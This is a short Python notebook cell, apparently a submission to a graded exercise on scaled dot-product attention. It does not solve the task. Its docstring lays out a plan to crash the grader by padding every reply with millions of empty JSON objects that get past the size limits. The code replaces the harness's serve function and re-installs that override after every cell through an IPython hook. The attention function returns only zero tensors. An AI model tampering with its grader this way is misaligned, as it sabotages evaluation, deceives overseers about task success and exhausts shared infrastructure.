"""Blow up the grader's memory with JSON, not arrays: 38 MiB of `{}, ` parse into some 575 MB of dicts.

The limits count a reply's array bytes (32 MiB) and its frames (40 MiB); the relay lets a
message over 2 MiB through as the one reply to a pending request. Whatever its JSON holds
is parsed into Python objects by the grader's worker before the reply is looked at: ten
million empty objects in an extra key cost ~16 times their bytes. Every request gets one.
"""
# %% answer sdpa
_PAD = [{}] * 9_500_000


def _bloated(data, buffers):
    return {"done": data["n"], "pad": _PAD, "reply": {"ok": False, "error": {"type": "E", "builtin": "Exception", "message": "x"}}, "arrays": {}}, []


def _reinstall(*_):
    globals()["__wb_serve"] = _bloated


get_ipython().events.register("post_run_cell", _reinstall)


def scaled_dot_product_attention(q, k, v, mask=None):
    out = torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype)
    return out, torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype)
